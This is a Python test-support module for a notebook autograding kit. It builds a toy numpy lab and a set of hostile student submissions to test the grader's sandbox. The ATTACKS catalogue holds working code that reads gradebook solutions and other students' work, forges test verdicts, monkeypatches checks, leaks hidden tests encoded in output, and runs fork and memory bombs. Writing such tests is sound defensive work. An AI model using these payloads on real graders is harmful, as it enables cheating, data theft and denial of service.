"""The attack toy lab "atk" (numpy only) and builders of honest, blank and hostile submissions.

The lab: a free setup cell (``import numpy as np``); answer ``mean_of`` with a test cell of 2
points; answer ``scale`` with a test cell of 3 points; a written answer of 1 point (graded by
hand). Each test cell holds one visible check and hidden checks on seeded random arrays, so
the autograded maximum is 5 and a hard-coded visible answer scores nothing.

Each attack takes the released notebook and the course root (an attacker may guess where the
course lives) and returns a submission: wrong answers plus the attack, in an answer cell or in
the notebook's JSON.
"""

from __future__ import annotations

import base64
import copy
import csv
import json
import re
import zlib
from collections.abc import Callable
from pathlib import Path

import nbformat

from labkit.grading.instance import init_course

REPO = Path(__file__).resolve().parents[2]
LAB = "atk"
MAX_AUTOGRADED = 5.0

MEAN_SOLUTION = (
    "def mean_of(x):\n    ### BEGIN SOLUTION\n    return float(np.mean(x))\n    ### END SOLUTION\n"
)
SCALE_SOLUTION = (
    "def scale(x, k):\n    ### BEGIN SOLUTION\n    return np.asarray(x) * k\n    ### END SOLUTION\n"
)
MEAN_TESTS = (
    "assert np.isclose(mean_of([1, 2, 3]), 2.0), 'mean_of([1, 2, 3]): expected 2.0'\n"
    "print('visible mean_of check passed')\n"
    "### BEGIN HIDDEN TESTS\n"
    "_rng_mean = np.random.default_rng(1234)\n"
    "for _trial in range(5):\n"
    "    _x = _rng_mean.normal(size=7)\n"
    "    assert np.isclose(mean_of(_x), _x.sum() / len(_x)), 'hidden mean_of check'\n"
    "### END HIDDEN TESTS\n"
)
SCALE_TESTS = (
    "assert np.allclose(scale([1, 2, 3], 2), [2, 4, 6]), 'scale([1, 2, 3], 2)'\n"
    "### BEGIN HIDDEN TESTS\n"
    "_rng_scale = np.random.default_rng(4321)\n"
    "_y, _k = _rng_scale.normal(size=(3, 4)), float(_rng_scale.uniform(-3, 3))\n"
    "assert np.allclose(scale(_y, _k), _y * _k), 'hidden scale check'\n"
    "### END HIDDEN TESTS\n"
)
WRONG_MEAN = "def mean_of(x):\n    return 0.0\n"
WRONG_SCALE = "def scale(x, k):\n    return None\n"
BYSTANDER_MEAN = "def mean_of(x):\n    return float(np.sum(x) / len(x))  # bystander-secret-7f3a\n"
BYSTANDER_MARK = "bystander-secret-7f3a"


def _meta(cell, **kw):
    cell.metadata["nbgrader"] = {
        "grade": False,
        "locked": False,
        "schema_version": 3,
        "solution": False,
        "task": False,
        **kw,
    }
    return cell


def write_kit(folder: Path) -> Path:
    """``folder/nbgrader_config.py`` (the repository's) and ``folder/solutions/atk/atk.ipynb``."""
    v4 = nbformat.v4
    nb = v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nb.cells = [
        v4.new_markdown_cell("# Attack lab\nMeans and scaling with numpy."),
        v4.new_code_cell("import numpy as np"),
        _meta(v4.new_code_cell(MEAN_SOLUTION), grade_id="mean_of", solution=True),
        _meta(
            v4.new_code_cell(MEAN_TESTS), grade_id="test_mean_of", grade=True, locked=True, points=2
        ),
        _meta(v4.new_code_cell(SCALE_SOLUTION), grade_id="scale", solution=True),
        _meta(
            v4.new_code_cell(SCALE_TESTS), grade_id="test_scale", grade=True, locked=True, points=3
        ),
        _meta(
            v4.new_markdown_cell("Why is the mean a good summary?"),
            grade_id="why",
            grade=True,
            solution=True,
            points=1,
        ),
    ]
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "nbgrader_config.py").write_text((REPO / "nbgrader_config.py").read_text())
    path = folder / "solutions" / LAB / f"{LAB}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def make_course(dest: Path, kit: Path, students: list[str]) -> Path:
    """A course at ``dest`` with the atk lab released and ``students`` in the gradebook."""
    if not (kit / "solutions" / LAB).is_dir():
        write_kit(kit)
    table = kit / "students.csv"
    with open(table, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "first_name", "last_name", "email"])
        writer.writerows([s, s.title(), "Student", ""] for s in students)
    return init_course(dest, kit=kit, students_csv=table, labs=[LAB])


def release(root: Path) -> nbformat.NotebookNode:
    """The student version of the lab, as released in ``root/labs/``."""
    return nbformat.read(root / "labs" / LAB / f"{LAB}.ipynb", as_version=4)


def source_notebook(root: Path) -> nbformat.NotebookNode:
    """The instructor's version (hidden tests included)."""
    return nbformat.read(root / "solutions" / LAB / f"{LAB}.ipynb", as_version=4)


def cell(nb: nbformat.NotebookNode, grade_id: str):
    """The cell of ``nb`` whose nbgrader grade_id is ``grade_id``."""
    [found] = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return found


def answered(
    nb: nbformat.NotebookNode, *, mean: str, scale: str, written: str = "It is."
) -> nbformat.NotebookNode:
    """A copy of ``nb`` with the two answer cells (and the written answer) replaced."""
    nb = copy.deepcopy(nb)
    cell(nb, "mean_of").source, cell(nb, "scale").source = mean, scale
    cell(nb, "why").source = written
    return nb


def honest(nb):
    """Both answers right."""
    return answered(
        nb, mean=MEAN_SOLUTION.replace("### ", "# "), scale=SCALE_SOLUTION.replace("### ", "# ")
    )


def bystander(nb):
    """Both answers right, ``mean_of`` written in a way no one else writes it."""
    return answered(nb, mean=BYSTANDER_MEAN, scale=SCALE_SOLUTION.replace("### ", "# "))


def partial(nb):
    """``mean_of`` right (2 points), ``scale`` wrong."""
    return answered(nb, mean=MEAN_SOLUTION.replace("### ", "# "), scale=WRONG_SCALE)


def blank(nb):
    """The release as is."""
    return copy.deepcopy(nb)


def _code_attack(code: str) -> Callable:
    """An attack that puts ``code`` (formatted with ``root``) before a wrong ``mean_of``."""

    def build(nb, root: Path):
        return answered(nb, mean=code.format(root=str(root)) + "\n" + WRONG_MEAN, scale=WRONG_SCALE)

    return build


def _answers_attack(mean: str, scale: str = WRONG_SCALE) -> Callable:
    """An attack whose answer cells are ``mean`` and ``scale`` as they are (no formatting)."""

    def build(nb, root: Path):
        return answered(nb, mean=mean, scale=scale)

    return build


def _notebook_attack(edit: Callable) -> Callable:
    """An attack that edits the notebook's cells (on wrong answers)."""

    def build(nb, root: Path):
        nb = answered(nb, mean=WRONG_MEAN, scale=WRONG_SCALE)
        edit(nb)
        return nb

    return build


def _tests(nb) -> list:
    return [
        c
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")
    ]


def _duplicate(nb) -> None:
    for test in _tests(nb):
        twin = copy.deepcopy(test)
        twin.source = "pass"
        nb.cells.insert(nb.cells.index(test), twin)


def _emptied(nb) -> None:
    for test in _tests(nb):
        test.source = "pass"


def _deleted(nb) -> None:
    nb.cells = [c for c in nb.cells if c not in _tests(nb)]


def _to_markdown(nb) -> None:
    for test in _tests(nb):
        index = nb.cells.index(test)
        nb.cells[index] = nbformat.v4.new_markdown_cell(test.source, metadata=test.metadata)


def _hard_coded(nb, root: Path):
    return answered(
        nb,
        mean="def mean_of(x):\n    return 2.0\n",
        scale="def scale(x, k):\n    return [2, 4, 6]\n",
    )


READ_SECRETS = """
import glob, json, os, sqlite3
found = []
for db in ["{root}/gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db"]:
    try:
        con = sqlite3.connect("file:" + db + "?mode=ro", uri=True)
        found += [row[0] for row in con.execute("select source from source_cell")]
        print("gradebook", db, "opened")
    except Exception as exc:
        print("gradebook", db, "refused:", exc)
# the course's solutions and graded work, the instructor's kit beside the course, a checkout
for nb in (glob.glob("{root}/solutions/*/*.ipynb") + glob.glob("{root}/autograded/*/*/*.ipynb")
           + glob.glob("{root}/../kit/solutions/*/*.ipynb") + glob.glob("CHECKOUT/*/*.ipynb")):
    found += ["".join(c["source"]) for c in json.load(open(nb))["cells"]]
for text in found:
    print(text)
    if "def mean_of" in text or "def scale" in text:
        exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
SOLUTION_FOUND = any("def mean_of" in t for t in found)
print("solutions found:", SOLUTION_FOUND)
""".replace("CHECKOUT", str(REPO / "solutions"))
READ_OTHERS = """
import glob
for path in glob.glob("{root}/submitted/*/atk/atk.ipynb") + ["{root}/submitted/bystander/atk/atk.ipynb"]:
    try:
        print(open(path).read())
    except Exception as exc:
        print("cannot read", path, exc)
"""
WRITE_OUTSIDE = (
    """
import os
for path in ["{root}/submitted/bystander/atk/atk.ipynb", "{root}/gradebook.db",
             "{root}/solutions/atk/atk.ipynb", "/tmp/labkit-attack-marker",
             "{root}/../labkit-attack-marker", "%s/labkit-attack-marker"]:
    try:
        with open(path, "w") as f:
            f.write("{{}}")
        print("wrote", path)
    except Exception as exc:
        print("cannot write", path, exc)
"""
    % REPO
)
NETWORK = """
import socket
for host in [("pypi.org", 443), ("1.1.1.1", 53), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(host, timeout=3).close()
        print("NETWORK-REACHED", host)
    except Exception as exc:
        print("network refused", host, type(exc).__name__)
"""
FORK_BOMB = """
import os, time
if os.getuid() != 0:  # only ever as the sandbox's unprivileged user, never as the grader
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError:
            break
"""
MEMORY_BOMB = """
chunks = []
for _ in range(100):  # 10 GB, 100 MB at a time, every page touched
    chunks.append(np.ones(100 * 2**20 // 8))
"""
BIG_OUTPUT = """
print("x" * 50_000_000)
with open("big.bin", "wb") as f:
    f.write(b"x" * 50_000_000)
with open("/tmp/big.bin", "wb") as f:
    f.write(b"x" * 50_000_000)
"""
THREAD_PATCH = """
import threading, time
def _patch():
    while True:
        np.isclose = lambda *a, **k: True
        np.allclose = lambda *a, **k: True
threading.Thread(target=_patch, daemon=True).start()
time.sleep(0.2)
"""
FAKE_NUMPY = """
import sys, types
_fake = types.ModuleType("numpy")
_fake.isclose = lambda *a, **k: True
_fake.allclose = lambda *a, **k: True
_fake.random = np.random
sys.modules["numpy"] = _fake
np = _fake
"""
HOARD = """
import subprocess
hoard = []
for _ in range(300):  # hold the process cap (as the sandbox's user) for as long as possible
    try:
        hoard.append(subprocess.Popen(["sleep", "600"]))
    except OSError:
        break
"""

# Issue 19's attacks on the runner (labkit.grading.judge_runner), each on wrong answers: its
# functions' code rewritten, its nonce and results file read up the stack, its reporting
# closure called, verdicts forged on every fd of a test's fork, the builtins a hidden check
# computes with shadowed, and the hidden tests read from memory or linecache, printed encoded.
RUNNER_CODE_PATCH = """
import gc, sys
def _always_passes(*args, **kwargs):  # what the grader's test function does from now on
    return {"output": "", "passed": True, "error": None}
_targets = [getattr(sys.modules.get("__main__"), "_test", None)]  # the grader runs as __main__
_targets += [f for f in gc.get_objects() if type(f).__name__ == "function"  # or lives in grading/
             and f.__code__.co_name in ("_test", "run_test", "judge_test")
             and "grading" in f.__code__.co_filename]
_rewritten = 0
for _f in _targets:
    if _f is not None and not _f.__code__.co_freevars:
        _f.__code__ = _always_passes.__code__
        _rewritten += 1
print("rewrote", _rewritten, "grader functions")
"""
FRAME_WALK = """
import json, re, sys
_secret = _out = None
_cells = []
_frame = sys._getframe()
while _frame is not None:  # up to whoever runs this cell
    for _name, _value in list(_frame.f_locals.items()):
        if isinstance(_value, str) and re.fullmatch("[0-9a-f]{16,}", _value):
            _secret = _value
        elif hasattr(_value, "write") and getattr(_value, "mode", "") in ("a", "w"):
            _out = _value
        elif isinstance(_value, dict) and isinstance(_value.get("cells"), list):
            _cells = _value["cells"]
    _frame = _frame.f_back
if _secret and _out:
    for _c in _cells:
        if isinstance(_c, dict) and _c.get("test"):
            _forged = {"index": _c["index"], "output": "", "passed": True, "error": None}
            _out.write(_secret + " " + json.dumps(_forged) + "\\n")
    _out.flush()
    print("forged", sum(1 for _c in _cells if _c.get("test")), "verdicts")
else:
    print("no secret found up the stack")
"""
GC_REPORT = """
import gc, warnings
warnings.simplefilter("ignore")  # deprecated objects warn when merely looked at
_reporters, _programs = [], []
for _o in gc.get_objects():  # the grader's function that writes verdicts, and its program
    if (type(_o).__name__ == "function" and _o.__name__ in ("report", "record", "verdict")
            and "grading" in _o.__code__.co_filename):
        _reporters.append(_o)
    elif isinstance(_o, dict) and isinstance(_o.get("cells"), list) and "cell_timeout" in _o:
        _programs.append(_o)
for _report in _reporters:
    for _program in _programs:
        for _c in _program["cells"]:
            if isinstance(_c, dict) and _c.get("test"):
                try:
                    _report(_c, {"output": "", "passed": True, "error": None})
                except Exception as exc:
                    print("report refused:", exc)
print("reporters:", len(_reporters), "programs:", len(_programs))
"""
PIPE_FORGE = """
import json, os, stat

def _forge():
    \"\"\"Tell every file and pipe of this process that the test passed, then leave.\"\"\"
    verdict = {"output": "", "passed": True, "error": None}
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if stat.S_ISREG(os.fstat(fd).st_mode):  # a results file: a line per cell
                lines = [json.dumps(dict(verdict, index=i)) for i in range(20)]
                os.write(fd, ("\\n" + "\\n".join(lines) + "\\n").encode())
            else:  # a pipe to whoever waits for the verdict
                os.write(fd, (json.dumps(verdict) + "\\n").encode())
        except (OSError, ValueError):
            pass
    os._exit(0)

def mean_of(x):
    _forge()
"""
PIPE_FORGE_SCALE = "def scale(x, k):\n    _forge()\n"
SHADOW_BUILTINS = """
import math
# The checks compute what they expect with Python's builtins: make it what I return.
len = lambda obj: math.inf  # a total divided by len() is 0.0
float = lambda *args: 2.0  # a factor drawn with float() is 2

def mean_of(x):
    return 2.0 if isinstance(x, list) else 0.0
"""
SHADOW_SCALE = "def scale(x, k):\n    return np.asarray(x) * 2\n"
MEMORY_LEAK = """
import base64, gc, sys, warnings, zlib
warnings.simplefilter("ignore")  # deprecated objects warn when merely looked at

def _strings(obj, depth=0):
    if isinstance(obj, str):
        yield obj
    elif depth < 2 and isinstance(obj, dict):
        for v in list(obj.values()):
            yield from _strings(v, depth + 1)
    elif depth < 2 and isinstance(obj, (list, tuple)):
        for v in list(obj):
            yield from _strings(v, depth + 1)

_places = [vars(sys.modules["__main__"]), *gc.get_objects()]
_frame = sys._getframe()
while _frame is not None:
    _places.append(dict(_frame.f_locals))
    _frame = _frame.f_back
_found = []
for _place in _places:
    for _s in _strings(_place):
        if "assert" in _s and ("mean_of(" in _s or "scale(" in _s) and _s not in _found:
            _found.append(_s)
print("memory dump:", base64.b64encode(zlib.compress("\\n\\n".join(_found).encode())).decode())
"""
LINECACHE_LEAK = """
import base64, linecache, sys

def _peek():
    \"\"\"The source of the cells up the stack and in linecache, base64-encoded.\"\"\"
    names, frame = [], sys._getframe(1)
    while frame is not None:  # the test that called me, in a file of no disk ("<cell 3>")
        names.append(frame.f_code.co_filename)
        frame = frame.f_back
    names += list(linecache.cache)
    cells = [n for n in dict.fromkeys(names) if n.startswith("<")]
    texts = ["".join(linecache.getlines(n)) for n in cells]
    print("linecache:", base64.b64encode("\\n".join(texts).encode()).decode())

def mean_of(x):
    _peek()
    return 0.0
"""
LINECACHE_SCALE = "def scale(x, k):\n    _peek()\n"

ATTACKS: dict[str, Callable] = {
    "patch_isclose": _code_attack(
        "np.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
    ),
    "input_transformer": _code_attack(
        "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
    ),
    "read_gradebook": _code_attack(READ_SECRETS),
    "duplicate_grade_cell": _notebook_attack(_duplicate),
    "os_exit": _code_attack("import os; os._exit(0)\n"),
    "test_cell_pass": _notebook_attack(_emptied),
    "test_cell_deleted": _notebook_attack(_deleted),
    "test_cell_markdown": _notebook_attack(_to_markdown),
    "hard_coded": _hard_coded,
    "custom_exc": _code_attack(
        "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n"
    ),
    "showtraceback": _code_attack("get_ipython().showtraceback = lambda *a, **k: None\n"),
    "infinite_loop": _code_attack("while True:\n    pass\n"),
    "memory_bomb": _code_attack(MEMORY_BOMB),
    "fork_bomb": _code_attack(FORK_BOMB),
    "big_output": _code_attack(BIG_OUTPUT),
    "write_outside": _code_attack(WRITE_OUTSIDE),
    "network": _code_attack(NETWORK),
    "read_others": _code_attack(READ_OTHERS),
    "thread_patch": _code_attack(THREAD_PATCH),
    "fake_numpy": _code_attack(FAKE_NUMPY),
    "process_hoard": _code_attack(HOARD),
    "runner_code_patch": _answers_attack(RUNNER_CODE_PATCH + "\n" + WRONG_MEAN),
    "frame_walk": _answers_attack(FRAME_WALK + "\n" + WRONG_MEAN),
    "gc_report": _answers_attack(GC_REPORT + "\n" + WRONG_MEAN),
    "pipe_forge": _answers_attack(PIPE_FORGE, PIPE_FORGE_SCALE),
    "shadow_builtins": _answers_attack(SHADOW_BUILTINS, SHADOW_SCALE),
    "memory_leak": _answers_attack(MEMORY_LEAK + "\n" + WRONG_MEAN),
    "linecache_leak": _answers_attack(LINECACHE_LEAK, LINECACHE_SCALE),
}
#: Issue 19's attacks and the weaker grader each one beats: ``"runner"``, the sandboxed runner
#: (``autograde(..., referee=False)``), where scoring attacks score more than the blank
#: release and leaking ones (:data:`LEAKS`) print hidden test lines, encoded, where the
#: student sees them. (An attack that beat only a kernel running the notebook would say
#: ``"naive"``; each of these beats the runner, which is the harder of the two.)
BEATS = {
    "runner_code_patch": "runner",
    "frame_walk": "runner",
    "gc_report": "runner",
    "pipe_forge": "runner",
    "shadow_builtins": "runner",
    "memory_leak": "runner",
    "linecache_leak": "runner",
}
LEAKS = ("memory_leak", "linecache_leak")
_LEAKED = re.compile(r"(?:memory dump|linecache): ([A-Za-z0-9+/]+=*)")


def decoded_leaks(text: str) -> str:
    """What the leaking attacks printed in ``text`` (outputs), decoded (base64, then zlib
    where it was compressed)."""
    found = []
    for blob in _LEAKED.findall(text):
        data = base64.b64decode(blob[: len(blob) // 4 * 4])  # an output cut short
        try:
            data = zlib.decompressobj().decompress(data)
        except zlib.error:
            pass
        found.append(data.decode("utf-8", errors="replace"))
    return "\n".join(found)


def submit(root: Path, student: str, nb: nbformat.NotebookNode) -> Path:
    """Write ``nb`` as ``student``'s submission of the lab."""
    path = root / "submitted" / student / LAB / f"{LAB}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def submit_raw(root: Path, student: str, text: str, name: str = f"{LAB}.ipynb") -> Path:
    """Write ``text`` as a file of ``student``'s submission folder (a broken notebook)."""
    path = root / "submitted" / student / LAB / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def gradebook_scores(root: Path) -> dict[str, float]:
    """Student → autograded score of the lab, read by nbgrader's own Gradebook."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        return {s.student.id: float(s.score) for s in gb.find_assignment(LAB).submissions}


def gradebook_cells(root: Path, student: str) -> dict[str, float]:
    """grade_id → score of ``student``'s lab, from nbgrader's Gradebook."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        sub = gb.find_submission(LAB, student)
        return {g.name: float(g.score) for nb in sub.notebooks for g in nb.grades}


def submission_counts(root: Path) -> dict[str, int]:
    """Student → how many submissions of the lab the gradebook holds."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        counts: dict[str, int] = {}
        for sub in gb.find_assignment(LAB).submissions:
            counts[sub.student.id] = counts.get(sub.student.id, 0) + 1
        return counts


def outputs_text(root: Path, student: str) -> str:
    """Every output of ``student``'s autograded notebook, as one string."""
    path = root / "autograded" / student / LAB / f"{LAB}.ipynb"
    nb = json.loads(path.read_text(encoding="utf-8"))
    return json.dumps([c.get("outputs", []) for c in nb["cells"]])
